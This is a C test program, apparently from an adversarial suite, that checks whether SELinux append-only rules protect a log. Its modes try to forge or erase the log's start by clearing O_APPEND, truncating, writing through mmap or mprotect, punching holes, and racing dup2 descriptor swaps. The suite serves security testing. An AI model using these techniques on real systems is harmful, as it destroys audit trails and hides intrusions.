/*
 * Attack: rewrite a log the domain may only append to. It opens the log
 * with O_APPEND (SELinux checks `append`), clears O_APPEND with
 * fcntl(F_SETFL) (SELinux checks `write`) and writes at its start.
 *
 * Usage: clear_append rewrite LOG: succeeds if O_APPEND was cleared and
 * "FORGED" written at offset 0 (the scenario reads the log to confirm).
 *
 * Usage: clear_append truncate LOG: LOG opened with O_APPEND, then
 * ftruncate(fd, 0) through that descriptor (SELinux checks `write`);
 * succeeds if the log is empty.
 *
 * Usage: clear_append mmap LOG: LOG opened to read and append
 * (O_RDWR | O_APPEND), mapped shared and writable (SELinux checks
 * `write`), "FORGED" written at the mapping's start; succeeds if the
 * log's first line is then FORGED. clear_append mprotect LOG: mapped
 * shared and read-only, then made writable (`write` again).
 *
 * Usage: clear_append punch LOG: LOG opened to read and append, a hole
 * punched over its start (fallocate FALLOC_FL_PUNCH_HOLE, which the
 * kernel allows on a descriptor opened with O_APPEND); succeeds if the
 * log's first byte is then zero.
 *
 * Usage: clear_append swap LOG OTHER: LOG opened with O_APPEND, OTHER (a
 * file the domain may write) without; one descriptor number that another
 * thread keeps switching (dup2) between the two, and 3000 F_SETFL(0)
 * through it. A daemon that checked the file there and let the kernel
 * look the number up again would clear the log's O_APPEND when the
 * switch lands in between. It succeeds if the log's O_APPEND is gone.
 */
#include "adversarial.h"

#include <pthread.h>
#include <sys/mman.h>
#include <sys/stat.h>

#define SWAP_FD 100
static int log_fd = -1, other_fd = -1;
static volatile int swapping = 1;

static void *swapper(void *arg) {
    (void)arg;
    for (unsigned i = 0; swapping; i++) dup2(i & 1 ? log_fd : other_fd, SWAP_FD);
    return NULL;
}

static int open_log(const char *path) {
    int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd < 0) verdict(BROKEN, "opening %s to append: %s", path, strerror(errno));
    return fd;
}

static int rewrite(const char *path) {
    int fd = open_log(path);
    if (fcntl(fd, F_SETFL, 0) != 0) FAILED(errno, "clearing O_APPEND on %s", path);
    if (fcntl(fd, F_GETFL) & O_APPEND) verdict(BROKEN, "O_APPEND is still set");
    if (pwrite(fd, "FORGED\n", 7, 0) != 7) verdict(BROKEN, "pwrite: %s", strerror(errno));
    verdict(SUCCEEDED, "cleared O_APPEND and wrote at the start of %s", path);
}

static int truncate_log(const char *path) {
    int fd = open_log(path);
    if (ftruncate(fd, 0) != 0) FAILED(errno, "ftruncate of %s", path);
    struct stat st;
    if (fstat(fd, &st) != 0 || st.st_size != 0) verdict(BROKEN, "ftruncate answered 0 and %s is not empty", path);
    verdict(SUCCEEDED, "emptied %s through a descriptor opened to append", path);
}

static int map_log(const char *path, int later) {
    int fd = open(path, O_RDWR | O_APPEND | O_CLOEXEC);
    if (fd < 0) verdict(BROKEN, "opening %s to read and append: %s", path, strerror(errno));
    int prot = later ? PROT_READ : PROT_READ | PROT_WRITE;
    char *map = mmap(NULL, 4096, prot, MAP_SHARED, fd, 0);
    if (map == MAP_FAILED) FAILED(errno, "mapping %s shared%s", path, later ? "" : " and writable");
    if (later && mprotect(map, 4096, PROT_READ | PROT_WRITE) != 0) FAILED(errno, "making the mapping writable");
    memcpy(map, "FORGED\n", 7);
    if (msync(map, 4096, MS_SYNC) != 0) verdict(BROKEN, "msync: %s", strerror(errno));
    char line[64];
    if (pread(fd, line, 7, 0) != 7 || memcmp(line, "FORGED\n", 7) != 0) verdict(BROKEN, "the log's start is not FORGED");
    verdict(SUCCEEDED, "wrote at the start of %s through a shared mapping%s", path, later ? " made writable" : "");
}

static int punch(const char *path) {
    int fd = open(path, O_RDWR | O_APPEND | O_CLOEXEC);
    if (fd < 0) verdict(BROKEN, "opening %s to read and append: %s", path, strerror(errno));
    if (fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096) != 0)
        FAILED(errno, "punching a hole over the start of %s", path);
    char first;
    if (pread(fd, &first, 1, 0) != 1) verdict(BROKEN, "pread: %s", strerror(errno));
    if (first != 0) verdict(BROKEN, "fallocate answered 0 and the log's first byte is %#x", first);
    verdict(SUCCEEDED, "punched a hole over the start of %s through a descriptor opened to append", path);
}

static int swap(const char *path, const char *other) {
    log_fd = open_log(path);
    other_fd = open(other, O_WRONLY | O_CLOEXEC);
    if (other_fd < 0) verdict(BROKEN, "opening %s: %s", other, strerror(errno));
    pthread_t t;
    if (pthread_create(&t, NULL, swapper, NULL) != 0) verdict(BROKEN, "pthread_create");
    int refused = 0, done = 0;
    for (int i = 0; i < 3000; i++) {
        if (fcntl(SWAP_FD, F_SETFL, 0) == 0) done++;
        else if (is_denial(errno)) refused++;
        if (!(fcntl(log_fd, F_GETFL) & O_APPEND)) {
            swapping = 0;
            verdict(SUCCEEDED, "the log's O_APPEND was cleared after %d calls", i + 1);
        }
    }
    swapping = 0;
    pthread_join(t, NULL);
    if (!refused) verdict(BROKEN, "no call was refused (%d made)", done);
    verdict(BLOCKED, "the log kept O_APPEND: %d refused, %d made on the other file", refused, done);
}

int main(int argc, char **argv) {
    if (argc == 3 && !strcmp(argv[1], "rewrite")) return rewrite(argv[2]);
    if (argc == 3 && !strcmp(argv[1], "truncate")) return truncate_log(argv[2]);
    if (argc == 3 && !strcmp(argv[1], "punch")) return punch(argv[2]);
    if (argc == 3 && !strcmp(argv[1], "mmap")) return map_log(argv[2], 0);
    if (argc == 3 && !strcmp(argv[1], "mprotect")) return map_log(argv[2], 1);
    if (argc == 4 && !strcmp(argv[1], "swap")) return swap(argv[2], argv[3]);
    fprintf(stderr, "usage: clear_append rewrite LOG | truncate LOG | mmap LOG | mprotect LOG | punch LOG | swap LOG OTHER\n");
    return BROKEN;
}
